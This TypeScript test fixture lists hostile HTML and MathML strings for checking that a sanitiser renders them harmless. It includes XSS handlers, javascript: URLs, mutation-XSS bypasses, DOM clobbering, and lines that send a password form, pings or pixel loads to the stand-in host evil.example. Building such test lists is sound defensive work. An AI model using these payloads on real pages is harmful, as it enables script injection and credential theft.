// HTML that tries to run scripts, to leave its place or to load from elsewhere.

/** Known attacks on sanitisers; each must end as harmless nodes. */
export const hostileHtml: readonly string[] = [
	"<script>attack()</script>",
	"<img src=x onerror=attack()>",
	"<svg onload=attack()><script>attack()</script></svg>",
	"<svg><a xlink:href='javascript:attack()'><text y=20>go</text></a></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=attack()&gt;'>",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
	"<svg></p><style><a id='</style><img src=1 onerror=attack()>'>",
	"<noscript><p title='</noscript><img src=x onerror=attack()>'>",
	"<a href='javascript:attack()'>go</a>",
	"<a href='java&#10;script:attack()'>go</a>",
	"<a href=' &#14; javascript:attack()'>go</a>",
	"<a href='data:text/html,<script>attack()</script>'>go</a>",
	"<a href='//evil.example/'>go</a>",
	"<a href='https://evil.example/' target=_top ping='https://evil.example/p'>go</a>",
	"<iframe src='javascript:attack()' srcdoc='<script>attack()</script>'></iframe>",
	"<object data='javascript:attack()'></object><embed src='javascript:attack()'>",
	"<meta http-equiv=refresh content='0;url=https://evil.example/'>",
	"<base href='https://evil.example/'><a href='/course'>go</a>",
	"<link rel=stylesheet href='https://evil.example/a.css'>",
	"<style>body{display:none}@import 'https://evil.example/a.css';</style>",
	"<p style='position:fixed;inset:0;background:url(https://evil.example/a)'>over</p>",
	"<form action='https://evil.example/'><input name=password autofocus onfocus=attack()><button>go</button></form>",
	"<img src='https://evil.example/pixel.png' srcset='https://evil.example/2.png 2x'>",
	"<video src='https://evil.example/a.mp4' onerror=attack()></video><audio src=x onerror=attack()>",
	"<details open ontoggle=attack()><summary>go</summary></details>",
	"<p id=root class=painted name=cookie>clobber</p><a id=site-snapshot href=#>clobber</a>",
	"<template><script>attack()</script></template><slot name=a></slot>",
	"<select><template shadowrootmode=open><img src=x onerror=attack()></template></select>",
	"<custom-element onclick=attack()>x</custom-element><p is=x-y>y</p>",
	"<marquee onstart=attack()>x</marquee><body onload=attack()><html onclick=attack()>",
	"<a href='#/course/list' onclick=attack() style='position:fixed;inset:0'>cover</a>",
	"<table background='https://evil.example/a'><td background='javascript:attack()'>x</table>",
	"<![CDATA[<script>attack()</script>]]><!--><img src=x onerror=attack()>-->",
	`${"<div>".repeat(3_000)}<img src=x onerror=attack()>`,
];

/** Attacks on formulas, which texts of questions may hold. */
export const hostileMathml: readonly string[] = [
	"<math href='javascript:attack()'><mi>x</mi></math>",
	"<math><mrow href='https://evil.example/'><mi>x</mi></mrow></math>",
	"<math><mi xlink:href='javascript:attack()'>x</mi></math>",
	"<math><maction actiontype='statusline#https://evil.example/' xlink:href='javascript:attack()'>x</maction></math>",
	"<math><annotation-xml encoding='text/html'><img src=x onerror=attack()></annotation-xml></math>",
	"<math><semantics><mi>x</mi><annotation encoding='text/html'><script>attack()</script></annotation></semantics></math>",
	"<math><mtext><img src=x onerror=attack()><script>attack()</script></mtext></math>",
	"<math><mi onclick=attack() style='position:fixed;inset:0' class=painted id=root>x</mi></math>",
	"<math><mi data-math='left evil l0 js:attack' data-src='x'>x</mi></math>",
	"<math><mglyph src='https://evil.example/a.png'></mglyph></math>",
	"<math><mstyle mathbackground='url(https://evil.example/a)' mathcolor='red'><mi>x</mi></mstyle></math>",
	"<math><mtext></mtext><svg><style><img src=x onerror=attack()></style></svg></math>",
	"<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=attack() src=1>'>",
	"<math><mi><form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
];

/** Tags and attributes allowed in a text; everything else is a vulnerability. */
export const harmlessTags =
	/^(H[2-6]|P|BR|HR|DIV|SPAN|BLOCKQUOTE|PRE|CODE|UL|OL|LI|DL|DT|DD|STRONG|B|EM|I|U|S|SMALL|SUB|SUP|MARK|TABLE|CAPTION|THEAD|TBODY|TFOOT|TR|TH|TD|FIGURE|FIGCAPTION|A|IMG|ABBR|TIME)$/;
export const harmlessAttributes =
	/^(href|rel|src|alt|loading|title|width|height|colspan|rowspan|scope|start|lang|dir|datetime)$/;
